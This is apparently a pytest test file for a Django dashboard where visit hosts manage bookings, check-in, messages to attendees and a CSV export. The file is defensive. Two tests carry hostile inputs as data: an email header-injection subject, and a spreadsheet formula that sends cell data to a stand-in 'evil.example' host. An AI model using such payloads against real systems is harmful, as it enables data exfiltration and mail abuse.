"""The host's dashboard: a visit's hosts, co-hosts and moderators see who is coming (with their answers),
approve, decline, add, remove, change the places, check people in and write to everyone coming; nobody else
learns anything of it, not even that the visit exists."""

import csv
import io
import threading
from datetime import UTC, datetime, timedelta
from http import HTTPStatus
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth import get_user_model
from django.core import mail
from django.db import connection, connections
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from network.models import Profile
from tests.factories import (
    BookingFactory,
    HostFactory,
    MemberFactory,
    ModeratorFactory,
    StudyVisitFactory,
    UserFactory,
)
from visits import services
from visits.models import Booking, StudyVisit

pytestmark = pytest.mark.django_db

ACCESS_NEEDS = "Step-free route from the station, please"


@pytest.fixture
def host(db):
    return HostFactory(profile__display_name="Hana Host", email="hana@example.org")


@pytest.fixture
def visit(home_page, host) -> StudyVisit:
    return StudyVisitFactory(
        page=home_page,
        host=host,
        title="A day with Rushey Green Time Bank",
        capacity=3,
        extra_questions=["What do you hope to learn?"],
    )


def book(visit: StudyVisit, status: str = "confirmed", **fields) -> Booking:
    fields.setdefault(
        "answers",
        {
            "access_needs": ACCESS_NEEDS,
            "dietary_needs": "Vegetarian",
            "organisation": "Lewisham Carers",
            "extra": [{"question": "What do you hope to learn?", "answer": "How brokers match people"}],
        },
    )
    return BookingFactory(visit=visit, status=status, **fields)


def dashboard(visit: StudyVisit) -> str:
    return reverse("visits:visit_dashboard", args=[visit.pk])


def action(booking: Booking, name: str) -> str:
    return reverse("visits:booking_action", args=[booking.pk, name])


def statuses(*bookings: Booking) -> list[str]:
    return [Booking.objects.get(pk=b.pk).status for b in bookings]


def messages_of(response) -> list[str]:
    return [str(m) for m in response.context["messages"]] if response.context else []


# What the hosts see


def test_the_host_sees_attendees_with_answers_requests_the_waiting_list_in_order_and_ended_bookings(
    client, visit
):
    attendee = book(visit, member=MemberFactory(profile__display_name="Amara Okafor"))
    request = book(visit, "requested", member=MemberFactory(profile__display_name="Dele Request"))
    first = book(visit, "waitlisted", member=MemberFactory(profile__display_name="Wanda First"))
    second = book(visit, "waitlisted", member=MemberFactory(profile__display_name="Will Second"))
    book(visit, "declined", reason="The visit is for practitioners in Lewisham", member=MemberFactory())
    client.force_login(visit.host)

    response = client.get(dashboard(visit))

    assert response.status_code == HTTPStatus.OK
    page = response.content.decode()
    for text in ("Amara Okafor", ACCESS_NEEDS, "Vegetarian", "Lewisham Carers", "How brokers match people"):
        assert text in page
    assert [r.booking for r in response.context["confirmed"]] == [attendee]
    assert [r.booking for r in response.context["requested"]] == [request]
    assert [(r.booking, r.position) for r in response.context["waitlisted"]] == [(first, 1), (second, 2)]
    assert "The visit is for practitioners in Lewisham" in page
    assert page.index("Wanda First") < page.index("Will Second")
    assert 'scope="col"' in page and "<caption" in page
    assert "You can check people in from the day of the visit." in page  # no buttons before the day
    assert reverse("visits:booking_action", args=[attendee.pk, "attended"]) not in page


@pytest.mark.parametrize("who", ["co-host", "moderator"])
def test_a_co_host_and_a_moderator_manage_the_visit_too(client, visit, who):
    person = ModeratorFactory() if who == "moderator" else HostFactory()
    if who == "co-host":
        visit.co_hosts.add(person)
    booking = book(visit, "requested")
    client.force_login(person)

    assert client.get(dashboard(visit)).status_code == HTTPStatus.OK
    assert client.get(reverse("visits:attendees_csv", args=[visit.pk])).status_code == HTTPStatus.OK
    response = client.post(action(booking, "approve"))
    assert response.status_code == HTTPStatus.FOUND
    assert statuses(booking) == ["confirmed"]


def _outsider(kind: str, visit: StudyVisit):
    if kind == "visitor":
        return None
    if kind == "signed-in non-member":
        return UserFactory()
    if kind == "applicant":
        return UserFactory(profile=Profile.Status.APPLICANT)
    if kind == "another host":
        return HostFactory()
    member = MemberFactory()
    if kind == "member who booked":
        book(visit, member=member)
    return member


@pytest.mark.parametrize(
    "kind", ["visitor", "signed-in non-member", "applicant", "member", "member who booked", "another host"]
)
def test_nobody_else_reaches_any_dashboard_route_or_learns_any_answer(client, visit, kind, run_on_commit):
    attendee = book(visit)
    request = book(visit, "requested")
    waiting = book(visit, "waitlisted")
    person = _outsider(kind, visit)
    if person is not None:
        client.force_login(person)
    gets = [dashboard(visit), reverse("visits:attendees_csv", args=[visit.pk])]
    posts = {
        reverse("visits:message_attendees", args=[visit.pk]): {
            "message-subject": "Hi",
            "message-body": "Hello",
        },
        reverse("visits:attendee_add", args=[visit.pk]): {
            "add-who": person.email if person else "x@example.org"
        },
        reverse("visits:capacity_change", args=[visit.pk]): {"capacity-capacity": "1"},
        action(request, "approve"): {},
        action(waiting, "decline"): {"reason": "No"},
        action(attendee, "remove"): {"reason": "No"},
        action(attendee, "attended"): {},
        action(attendee, "no_show"): {},
        action(attendee, "clear"): {},
    }

    with run_on_commit():
        responses = [client.get(url) for url in gets] + [
            client.post(url, data) for url, data in posts.items()
        ]

    for response in responses:
        if person is None and response.request["REQUEST_METHOD"] == "GET":
            assert response.status_code == HTTPStatus.FOUND
            assert response["Location"].startswith(reverse("account_login"))
        else:
            assert response.status_code == HTTPStatus.NOT_FOUND
        assert ACCESS_NEEDS not in response.content.decode()
        assert visit.title not in response.content.decode()
    assert statuses(attendee, request, waiting) == ["confirmed", "requested", "waitlisted"]
    assert StudyVisit.objects.get(pk=visit.pk).capacity == 3
    assert Booking.objects.count() == 3 + (kind == "member who booked")
    assert mail.outbox == []


def test_every_post_needs_a_csrf_token(visit):
    booking = book(visit, "requested")
    client = Client(enforce_csrf_checks=True)
    client.force_login(visit.host)

    response = client.post(action(booking, "approve"))

    assert response.status_code == HTTPStatus.FORBIDDEN
    assert statuses(booking) == ["requested"]


@pytest.mark.parametrize("route", ["message_attendees", "attendee_add", "capacity_change"])
def test_the_forms_take_posts_only(client, visit, route):
    client.force_login(visit.host)

    assert (
        client.get(reverse(f"visits:{route}", args=[visit.pk])).status_code == HTTPStatus.METHOD_NOT_ALLOWED
    )


def test_an_unknown_action_or_booking_is_not_found(client, visit):
    booking = book(visit, "requested")
    client.force_login(visit.host)

    assert client.post(action(booking, "delete")).status_code == HTTPStatus.NOT_FOUND
    missing = reverse("visits:booking_action", args=[booking.pk + 1000, "approve"])
    assert client.post(missing).status_code == HTTPStatus.NOT_FOUND
    assert client.get(action(booking, "approve")).status_code == HTTPStatus.METHOD_NOT_ALLOWED
    assert statuses(booking) == ["requested"]


# Requests, removals and additions


def test_approving_a_request_confirms_it_and_tells_the_member(client, visit, run_on_commit):
    member = MemberFactory(email="dele@example.org")
    booking = book(visit, "requested", member=member)
    client.force_login(visit.host)

    with run_on_commit():
        response = client.post(action(booking, "approve"), follow=True)

    assert statuses(booking) == ["confirmed"]
    assert any("place is confirmed" in m for m in messages_of(response))
    assert [(m.to, m.subject) for m in mail.outbox] == [
        (["dele@example.org"], f"Your place on {visit.title} is confirmed")
    ]


def test_declining_a_request_tells_the_member_why_and_gives_its_place_to_the_first_waiting(
    client, visit, run_on_commit
):
    visit.needs_approval = False
    visit.save()
    book(visit), book(visit)
    request = book(visit, "requested", member=MemberFactory(email="req@example.org"))
    first = book(visit, "waitlisted", member=MemberFactory(email="first@example.org"))
    second = book(visit, "waitlisted", member=MemberFactory(email="second@example.org"))
    client.force_login(visit.host)

    with run_on_commit():
        response = client.post(action(request, "decline"), {"reason": "This visit is for Lewisham staff"})

    assert response.status_code == HTTPStatus.FOUND
    assert statuses(request, first, second) == ["declined", "confirmed", "waitlisted"]
    assert Booking.objects.get(pk=request.pk).reason == "This visit is for Lewisham staff"
    sent = {m.to[0]: m for m in mail.outbox}
    assert set(sent) == {"req@example.org", "first@example.org"}
    assert "This visit is for Lewisham staff" in sent["req@example.org"].body
    assert sent["first@example.org"].subject == f"Your place on {visit.title}"
    assert "http" in sent["first@example.org"].body  # an absolute link back to the visit


def test_declining_or_removing_without_a_reason_shows_the_error_and_changes_nothing(client, visit):
    attendee = book(visit)
    request = book(visit, "requested")
    client.force_login(visit.host)

    for booking, name in ((request, "decline"), (attendee, "remove")):
        response = client.post(action(booking, name), {"reason": "   "})

        assert response.status_code == HTTPStatus.BAD_REQUEST
        assert "Please give a reason" in " ".join(messages_of(response))
        assert f'id="reason-{name}-{booking.pk}-error"' in response.content.decode()
    assert statuses(attendee, request) == ["confirmed", "requested"]
    assert mail.outbox == []


def test_removing_an_attendee_frees_their_place_for_the_first_waiting_and_tells_both(
    client, visit, run_on_commit
):
    attendee = book(visit, member=MemberFactory(email="gone@example.org"))
    book(visit), book(visit)
    first = book(visit, "waitlisted", member=MemberFactory(email="next@example.org"))
    client.force_login(visit.host)

    with run_on_commit():
        client.post(action(attendee, "remove"), {"reason": "You booked twice under two names"})

    assert statuses(attendee, first) == ["removed", "confirmed"]
    assert sorted(m.to[0] for m in mail.outbox) == ["gone@example.org", "next@example.org"]
    removed = next(m for m in mail.outbox if m.to == ["gone@example.org"])
    assert "You booked twice under two names" in removed.body


def test_a_stale_button_says_what_happened_and_changes_nothing(client, visit):
    booking = book(visit, "confirmed")
    client.force_login(visit.host)

    response = client.post(action(booking, "approve"), follow=True)

    assert "Only a request waiting for approval can be approved." in messages_of(response)
    assert statuses(booking) == ["confirmed"]


@pytest.mark.parametrize("by", ["handle", "email"])
def test_a_host_adds_a_member_by_handle_or_email_and_they_are_told(client, visit, run_on_commit, by):
    member = MemberFactory(
        email="Sam@Example.org", profile__handle="sam-lee", profile__display_name="Sam Lee"
    )
    client.force_login(visit.host)
    who = "@sam-lee" if by == "handle" else "sam@example.org"

    with run_on_commit():
        response = client.post(
            reverse("visits:attendee_add", args=[visit.pk]), {"add-who": who, "add-reason": "Asked by phone"}
        )

    assert response.status_code == HTTPStatus.FOUND
    booking = Booking.objects.get(visit=visit, member=member)
    assert (booking.status, booking.added_by, booking.reason) == ("confirmed", visit.host, "Asked by phone")
    assert [m.to for m in mail.outbox] == [["Sam@Example.org"]]


def test_adding_is_refused_when_full_for_non_members_and_for_those_booked_already(client, visit):
    waiting = book(visit, "waitlisted")
    applicant = UserFactory(profile=Profile.Status.APPLICANT)
    client.force_login(visit.host)
    url = reverse("visits:attendee_add", args=[visit.pk])

    for who, error in (
        (applicant.email, "No member of the network has that handle or email address."),
        ("nobody@example.org", "No member of the network has that handle or email address."),
        (waiting.member.email, "They have a booking for this visit already (On the waiting list)."),
        ("", "This field is required."),
    ):
        response = client.post(url, {"add-who": who})
        assert response.status_code == HTTPStatus.BAD_REQUEST
        assert error in response.content.decode().replace("&#x27;", "'")
        assert "Nobody was added" in " ".join(messages_of(response))

    book(visit), book(visit), book(visit, "requested")  # every place taken
    response = client.post(url, {"add-who": MemberFactory().email})
    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert "The visit is full (3 of 3 places taken)" in response.content.decode()
    assert Booking.objects.filter(visit=visit).count() == 4


def test_nobody_is_added_to_a_draft_a_cancelled_or_a_finished_visit(visit):
    member = MemberFactory()
    for change, error in (
        ({"status": StudyVisit.Status.DRAFT}, "Publish the visit"),
        ({"status": StudyVisit.Status.CANCELLED}, "over or cancelled"),
        (
            {"starts_at": timezone.now() - timedelta(days=2), "ends_at": timezone.now() - timedelta(days=1)},
            "over",
        ),
    ):
        StudyVisit.objects.filter(pk=visit.pk).update(**change)
        with pytest.raises(services.BookingError, match=error):
            services.add_attendee(visit=visit, member=member, by=visit.host)
    assert not Booking.objects.exists()


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_hosts_adding_and_members_booking_at_once_never_fill_more_than_the_places(home_page):
    visit = StudyVisitFactory(page=home_page, capacity=3)
    co_host = HostFactory()
    visit.co_hosts.add(co_host)
    added, booking = [MemberFactory() for _ in range(4)], [MemberFactory() for _ in range(4)]
    start = threading.Barrier(len(added) + len(booking))
    errors, refused = [], []

    def run(call):
        try:
            start.wait(10)
            call()
        except services.VisitFull:
            refused.append(True)
        except BaseException as error:  # noqa: BLE001 - reported below
            errors.append(error)
        finally:
            connections.close_all()

    calls = [
        lambda m=m, n=n: services.add_attendee(visit=visit, member=m, by=(visit.host, co_host)[n % 2])
        for n, m in enumerate(added)
    ] + [lambda m=m: services.book_visit(visit=visit, member=m) for m in booking]
    workers = [threading.Thread(target=run, args=(call,)) for call in calls]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(60)

    assert errors == []
    confirmed = Booking.objects.filter(visit=visit, status="confirmed").count()
    waiting = Booking.objects.filter(visit=visit, status="waitlisted").count()
    assert confirmed == 3
    assert confirmed + waiting + len(refused) == 8  # each one placed, queued or told the visit is full


# Places


def test_capacity_below_the_places_held_is_refused_with_how_many_hold_them_and_nothing_changes(client, visit):
    book(visit), book(visit, "requested")
    waiting = book(visit, "waitlisted")
    client.force_login(visit.host)

    response = client.post(reverse("visits:capacity_change", args=[visit.pk]), {"capacity-capacity": "1"})

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert "2 people hold places on this visit" in response.content.decode()
    assert "The number of places has not changed" in " ".join(messages_of(response))
    assert StudyVisit.objects.get(pk=visit.pk).capacity == 3
    assert statuses(waiting) == ["waitlisted"]


@pytest.mark.parametrize("value", ["", "zero", "0", "501", "-4", "2.5"])
def test_nonsense_capacity_shows_the_form_error_never_a_500(client, visit, value):
    client.force_login(visit.host)

    response = client.post(reverse("visits:capacity_change", args=[visit.pk]), {"capacity-capacity": value})

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert response.context["capacity_form"].errors
    assert StudyVisit.objects.get(pk=visit.pk).capacity == 3


def test_raising_capacity_promotes_the_waiting_list_in_order_and_tells_those_promoted(
    client, visit, run_on_commit
):
    sequence = visit.sequence
    for _ in range(3):
        book(visit)
    waiting = [book(visit, "waitlisted", member=MemberFactory(email=f"w{n}@example.org")) for n in range(4)]
    client.force_login(visit.host)

    with run_on_commit():
        response = client.post(
            reverse("visits:capacity_change", args=[visit.pk]), {"capacity-capacity": "5"}, follow=True
        )

    assert statuses(*waiting) == ["confirmed", "confirmed", "waitlisted", "waitlisted"]
    assert sorted(m.to[0] for m in mail.outbox) == ["w0@example.org", "w1@example.org"]
    assert "2 from the waiting list moved up" in " ".join(messages_of(response))
    visit.refresh_from_db()
    assert (visit.capacity, visit.sequence) == (5, sequence)  # calendars do not show places
    assert [r.position for r in response.context["waitlisted"]] == [1, 2]


def test_raising_capacity_on_a_visit_needing_approval_moves_the_waiting_to_requests(visit):
    visit.needs_approval = True
    visit.save()
    book(visit), book(visit), book(visit)
    waiting = book(visit, "waitlisted")

    services.change_capacity(visit=visit, capacity=4, by=visit.host)

    assert statuses(waiting) == ["requested"]


def test_capacity_outside_one_to_the_maximum_is_refused_by_the_service(visit):
    for capacity in (0, 501):
        with pytest.raises(services.BookingError, match="between 1 and 500"):
            services.change_capacity(visit=visit, capacity=capacity, by=visit.host)


# Check-in


def test_check_in_opens_on_the_visits_day_in_the_visits_own_time_zone(visit):
    zone = ZoneInfo("Pacific/Auckland")
    visit.time_zone = "Pacific/Auckland"
    visit.starts_at = datetime(2031, 6, 15, 9, 30, tzinfo=zone)
    visit.ends_at = visit.starts_at + timedelta(hours=5)
    visit.save()
    booking = book(visit)
    the_evening_before = datetime(2031, 6, 14, 11, 0, tzinfo=UTC)  # 23:00 in Auckland, the 14th
    just_after_midnight = datetime(2031, 6, 14, 12, 30, tzinfo=UTC)  # 00:30 in Auckland, the 15th

    with pytest.raises(services.BookingError, match="opens on the day"):
        services.check_in(booking=booking, by=visit.host, attendance="attended", now=the_evening_before)
    services.check_in(booking=booking, by=visit.host, attendance="attended", now=just_after_midnight)

    assert Booking.objects.get(pk=booking.pk).attendance == "attended"


def test_on_the_day_the_host_marks_attended_no_show_and_clears_it(client, visit):
    visit.starts_at = timezone.now() - timedelta(hours=1)
    visit.ends_at = visit.starts_at + timedelta(hours=5)
    visit.save()
    attendee = book(visit, member=MemberFactory(profile__display_name="Amara Okafor"))
    waiting = book(visit, "waitlisted")
    client.force_login(visit.host)

    page = client.get(dashboard(visit)).content.decode()
    assert action(attendee, "attended") in page and action(attendee, "no_show") in page
    assert action(attendee, "remove") not in page  # once it has started, attendance says who came

    for name, expected in (("attended", "attended"), ("no_show", "no_show"), ("clear", "")):
        client.post(action(attendee, name))
        assert Booking.objects.get(pk=attendee.pk).attendance == expected
    response = client.post(action(waiting, "attended"), follow=True)
    assert "Only confirmed attendees can be checked in." in messages_of(response)
    assert Booking.objects.get(pk=waiting.pk).attendance == ""


def test_check_in_before_the_day_is_refused_through_the_view(client, visit):
    attendee = book(visit)
    client.force_login(visit.host)

    response = client.post(action(attendee, "attended"), follow=True)

    assert "Check-in opens on the day of the visit." in messages_of(response)
    assert Booking.objects.get(pk=attendee.pk).attendance == ""


# Writing to attendees


def test_a_message_reaches_every_confirmed_attendee_and_nobody_else(client, visit, run_on_commit):
    visit.capacity = 10
    visit.save()
    co_host = HostFactory(email="co@example.org")
    visit.co_hosts.add(co_host)
    confirmed = [book(visit, member=MemberFactory(email=f"yes{n}@example.org")) for n in range(3)]
    book(visit, "requested", member=MemberFactory(email="requested@example.org"))
    book(visit, "waitlisted", member=MemberFactory(email="waiting@example.org"))
    book(visit, "cancelled", member=MemberFactory(email="cancelled@example.org"))
    book(visit, "removed", member=MemberFactory(email="removed@example.org"))
    client.force_login(co_host)

    with run_on_commit():
        response = client.post(
            reverse("visits:message_attendees", args=[visit.pk]),
            {
                "message-subject": "Meet at the side gate",
                "message-body": "The main door is closed on Friday.",
            },
            follow=True,
        )

    assert "Your message is on its way to 3 attendees." in messages_of(response)
    assert sorted(m.to[0] for m in mail.outbox) == sorted(b.member.email for b in confirmed)
    assert all(len(m.to) == 1 and not m.cc and not m.bcc for m in mail.outbox)  # nobody sees the others
    message = mail.outbox[0]
    assert message.subject == "Meet at the side gate"
    assert "The main door is closed on Friday." in message.body
    assert message.reply_to == ["co@example.org", "hana@example.org"]


def test_a_moderator_writes_to_the_attendees_of_a_visit_whose_host_has_left(visit, run_on_commit):
    book(visit, member=MemberFactory(email="amara@example.org"))
    StudyVisit.objects.filter(pk=visit.pk).update(host=None)
    visit.refresh_from_db()
    moderator = ModeratorFactory(email="mod@example.org")

    with run_on_commit():
        sent = services.message_attendees(
            visit=visit, by=moderator, subject="Still on", body="See you Friday"
        )

    assert sent == 1
    assert [(m.to, m.reply_to) for m in mail.outbox] == [(["amara@example.org"], ["mod@example.org"])]


def test_an_empty_message_is_not_sent_and_keeps_what_was_typed(client, visit):
    book(visit)
    client.force_login(visit.host)

    response = client.post(
        reverse("visits:message_attendees", args=[visit.pk]),
        {"message-subject": "Directions", "message-body": ""},
    )

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert response.context["message_form"]["subject"].value() == "Directions"
    assert "Your message was not sent" in " ".join(messages_of(response))
    assert mail.outbox == []


def test_a_subject_with_a_line_break_is_refused_so_no_header_is_injected(client, visit):
    book(visit)
    client.force_login(visit.host)

    response = client.post(
        reverse("visits:message_attendees", args=[visit.pk]),
        {"message-subject": "Hi\r\nBcc: everyone@example.org", "message-body": "Hello"},
    )

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert mail.outbox == []


def test_the_hosts_of_a_visit_send_at_most_ten_messages_a_day(visit, run_on_commit):
    book(visit)

    with run_on_commit():
        for n in range(services.MESSAGES_PER_DAY):
            services.message_attendees(visit=visit, by=visit.host, subject=f"Note {n}", body="Hello")
    with pytest.raises(services.BookingError, match="please send the next one tomorrow"):
        services.message_attendees(visit=visit, by=visit.host, subject="One more", body="Hello")

    assert len(mail.outbox) == services.MESSAGES_PER_DAY


# The CSV


def read_csv(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM
    text = raw.decode("utf-8-sig")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")  # CRLF line ends
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_csv_lists_active_bookings_with_every_answer_for_a_spreadsheet(client, visit):
    visit.time_zone = "America/New_York"
    visit.requires_background_check = True
    visit.save()
    amara = MemberFactory(profile__display_name="Amara Okafor", email="amara@example.org")
    attendee = book(visit, member=amara, background_check_confirmed=True, attendance="attended")
    book(visit, "waitlisted", member=MemberFactory(profile__display_name="Will Wait"))
    book(visit, "cancelled", member=MemberFactory(profile__display_name="Cara Cancelled"))
    client.force_login(visit.host)

    response = client.get(reverse("visits:attendees_csv", args=[visit.pk]))

    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    date = visit.local_start.strftime("%Y-%m-%d")
    assert (
        f'filename="a-day-with-rushey-green-time-bank-{date}-attendees.csv"'
        in response["Content-Disposition"]
    )
    assert response["Cache-Control"] == "private, no-store"
    header, *rows = read_csv(response)
    assert header == [
        "Name",
        "Email",
        "Organisation",
        "Status",
        "Booked at (America/New_York)",
        "Access needs",
        "Dietary needs",
        "What do you hope to learn?",
        "Background check confirmed",
        "Attendance",
    ]
    booked = attendee.created_at.astimezone(ZoneInfo("America/New_York")).strftime("%Y-%m-%d %H:%M")
    assert rows[0] == [
        "Amara Okafor",
        "amara@example.org",
        "Lewisham Carers",
        "Confirmed",
        booked,
        ACCESS_NEEDS,
        "Vegetarian",
        "How brokers match people",
        "Yes",
        "Attended",
    ]
    assert [row[0] for row in rows] == ["Amara Okafor", "Will Wait"]  # cancelled bookings are not listed
    assert rows[1][3] == "On the waiting list"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_as_a_formula_are_kept_as_text(client, visit, start):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    member = MemberFactory(profile__display_name=f"{start}HYPERLINK(name)", email="e@example.org")
    book(
        visit,
        member=member,
        answers={
            "access_needs": formula,
            "dietary_needs": "-2 sugars",
            "organisation": "@org",
            "extra": [{"question": "What do you hope to learn?", "answer": "=1+1"}],
        },
    )
    client.force_login(visit.host)

    _header, row = read_csv(client.get(reverse("visits:attendees_csv", args=[visit.pk])))

    assert row[0] == f"'{start}HYPERLINK(name)"
    assert row[5] == f"'{formula}"
    assert (row[2], row[6], row[7]) == ("'@org", "'-2 sugars", "'=1+1")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


# Cost


def add_bookings(visit: StudyVisit, count: int, start: int) -> None:
    """`count` members with profiles and bookings of every kind, written in bulk."""
    User = get_user_model()
    users = User.objects.bulk_create(
        [User(username=f"bulk{n}", email=f"bulk{n}@example.org") for n in range(start, start + count)]
    )
    Profile.objects.bulk_create(
        [
            Profile(
                user=user,
                handle=f"bulk-{user.username}",
                display_name=f"Bulk {user.username}",
                status="member",
            )
            for user in users
        ]
    )
    kinds = ["confirmed", "confirmed", "requested", "waitlisted", "cancelled", "declined", "removed"]
    Booking.objects.bulk_create(
        [
            Booking(
                visit=visit,
                member=user,
                status=kinds[n % len(kinds)],
                answers={
                    "access_needs": "Hearing loop",
                    "dietary_needs": "",
                    "organisation": "A clinic",
                    "extra": [{"question": "What do you hope to learn?", "answer": "Plenty"}],
                },
            )
            for n, user in enumerate(users)
        ]
    )


def test_the_dashboard_and_the_csv_cost_the_same_queries_for_15_or_500_bookings(
    client, visit, django_assert_max_num_queries
):
    visit.capacity = 500
    visit.starts_at = timezone.now() - timedelta(hours=1)  # check-in buttons on every row
    visit.ends_at = visit.starts_at + timedelta(hours=5)
    visit.save()
    add_bookings(visit, 15, 0)
    client.force_login(visit.host)
    client.get(dashboard(visit))  # sessions and caches warm
    with CaptureQueriesContext(connection) as few:
        assert client.get(dashboard(visit)).status_code == HTTPStatus.OK
    with CaptureQueriesContext(connection) as few_csv:
        client.get(reverse("visits:attendees_csv", args=[visit.pk]))

    add_bookings(visit, 485, 15)

    with django_assert_max_num_queries(len(few)):
        response = client.get(dashboard(visit))
    assert len(response.context["confirmed"]) + len(response.context["waitlisted"]) > 200
    with django_assert_max_num_queries(len(few_csv)):
        client.get(reverse("visits:attendees_csv", args=[visit.pk]))


def test_answers_to_a_question_the_host_reworded_stay_in_the_csv(client, host, visit):
    visit.extra_questions = ["What would you like to learn?"]
    visit.save()
    book(visit)  # answered "What do you hope to learn?" before the host reworded it
    client.force_login(host)

    rows = read_csv(client.get(reverse("visits:attendees_csv", args=[visit.pk])))

    assert "What do you hope to learn?" in rows[0] and "What would you like to learn?" in rows[0]
    assert rows[1][rows[0].index("What do you hope to learn?")] == "How brokers match people"
